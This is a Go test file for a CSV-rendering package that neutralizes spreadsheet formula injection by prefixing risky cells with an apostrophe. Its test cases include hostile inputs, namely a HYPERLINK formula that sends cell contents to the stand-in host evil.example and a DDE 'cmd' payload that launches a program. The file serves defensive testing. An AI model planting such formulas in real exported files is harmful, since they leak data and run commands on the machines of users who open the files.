package render_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/m3bench/m3eval/internal/render"
)

func TestNeutralize(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-0.25", "-0.25"},
		{"+3", "+3"},
		{"-1e-05", "-1e-05"},
		{"-", "'-"},
		{"- a bullet", "'- a bullet"},
		{"a=b", "a=b"},
		{"天空是绿色的", "天空是绿色的"},
		{"", ""},
		{"4", "4"},
	}
	for _, tc := range tests {
		if got := render.Neutralize(tc.in); got != tc.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriterRawAndExcel(t *testing.T) {
	rec := []string{"=1+1", "-0.5", "天空"}
	var b bytes.Buffer
	w := render.NewCSVWriter(&b, render.CSVOptions{Excel: true})
	w.Write(rec)
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if got := b.String(); got != "\ufeff'=1+1,-0.5,天空\n" {
		t.Errorf("excel output %q", got)
	}
	b.Reset()
	w = render.NewCSVWriter(&b, render.CSVOptions{Raw: true})
	w.Write(rec)
	w.Flush()
	if got := b.String(); got != "=1+1,-0.5,天空\n" {
		t.Errorf("raw output %q", got)
	}
	// What encoding/csv reads back is the neutralized text, quotes and all.
	b.Reset()
	w = render.NewCSVWriter(&b, render.CSVOptions{})
	w.Write([]string{"=a,\"b\"\n"})
	w.Flush()
	got, err := csv.NewReader(&b).Read()
	if err != nil || got[0] != "'=a,\"b\"\n" {
		t.Errorf("read back %q %v", got, err)
	}
}
